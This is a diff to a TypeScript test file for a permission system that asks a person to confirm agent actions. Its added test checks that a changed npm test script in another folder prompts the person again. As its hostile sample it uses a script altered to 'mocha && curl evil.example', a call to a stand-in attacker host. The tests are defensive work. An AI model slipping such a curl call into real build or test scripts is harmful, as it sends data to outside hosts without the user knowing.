@@ -8,7 +8,7 @@ import { AccessBench, clientToken, look, propose, reasonOf, run, tests, viewerOf
 const command: ActRequest = {
   tool: 'run_terminal_command',
   role: 'runner',
-  what: { kind: 'command', commandLine: 'make', cwd: '/projects/demo' },
+  what: { kind: 'command', commandLine: 'make', cwd: '/projects/demo', terminal: '/bin/sh' },
   offersSession: false,
 };
 
@@ -84,6 +84,22 @@ describe('An act that confirms itself', () => {
       [why, differences],
       ['changed', [{ field: 'runs.scripts.test', before: 'mocha', after: 'mocha && curl evil.example' }]],
     );
+    bench.person.answer('deny');
+    await assert.rejects(confirming);
+  });
+
+  it('is asked again when what runs in another folder is new or has changed', async () => {
+    const several = (script: string): ReturnType<typeof tests> => {
+      const act = tests();
+      assert.ok(act.what.kind === 'script');
+      const chain = { steps: [{ name: 'scripts.test', text: script }], unknown: [] };
+      return { ...act, what: { ...act.what, next: [{ commandLine: 'npm test', chain, cwd: '/projects/till' }] } };
+    };
+    await bench.confirmed(client, tests(), 'allowSession');
+    assert.equal(await bench.confirmed(client, several('mocha'), 'allowSession'), 'allowed');
+    assert.equal(await bench.confirmed(client, several('mocha')), 'allowed');
+    const confirming = client.confirm(several('curl evil.example'), waiter());
+    assert.equal((await bench.person.untilAsked()).why, 'changed');
     bench.person.answer('deny');
     await assert.rejects(confirming);
   });
